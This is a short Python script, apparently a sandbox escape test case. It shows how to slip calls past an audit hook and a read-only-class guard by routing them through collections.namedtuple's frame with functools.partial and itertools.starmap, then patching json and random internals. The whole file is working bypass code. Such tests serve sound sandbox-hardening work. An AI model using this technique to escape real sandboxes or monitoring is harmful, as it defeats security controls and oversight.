# technique: caller_may_exec() trusts collections.namedtuple's frame for every C callee: namedtuple's `tuple(defaults)` calls type(d).__iter__, a C functools.partial returning itertools.starmap(operator.call, calls); each call runs with namedtuple's frame on top, so audited object.__setattr__ (__kwdefaults__, __class__) and type.__setattr__ on stdlib classes pass the audit hook and the read-only-class guard
# expect: any
import collections, functools, itertools, operator, json, random
def as_namedtuple(*calls):
    # namedtuple runs `defaults = tuple(defaults)`: tuple() calls type(d).__iter__, a C partial
    # (no __get__, called without self) that returns a C starmap; each operator.call it makes
    # has collections.namedtuple's frame on top, which caller_may_exec() trusts.
    D = type("D", (), {"__iter__": functools.partial(itertools.starmap, operator.call, list(calls))})
    nt = collections.namedtuple("N", ["f%d" % i for i in range(len(calls))], defaults=D())
    return nt._field_defaults
class Enc(json.JSONEncoder):
    def default(self, o):
        return "planted:" + type(o).__name__
def default(self, o):
    return "every encoder now calls user code: " + repr(o)
kw = dict(skipkeys=False, ensure_ascii=True, check_circular=True, allow_nan=True, cls=Enc,
          indent=None, separators=None, default=None, sort_keys=False)
for what, f in (("stdlib class", lambda: type.__setattr__(json.JSONEncoder, "default", default)),
                ("audited __kwdefaults__", lambda: object.__setattr__(json.dumps, "__kwdefaults__", kw)),
                ("audited __class__", lambda: object.__setattr__(random.Random(), "__class__", type("H", (random.Random,), {})))):
    try:
        f()
    except Exception as e:
        print("direct", what, "->", type(e).__name__, e)
r = random.Random()
H = type("H", (random.Random,), {"random": lambda self: 0.25})
print(as_namedtuple((type.__setattr__, json.JSONEncoder, "default", default),
                    (object.__setattr__, json.dumps, "__kwdefaults__", kw),
                    (object.__setattr__, r, "__class__", H)))
print(json.JSONEncoder().encode(object()), json.dumps(object()), type(r), r.random())
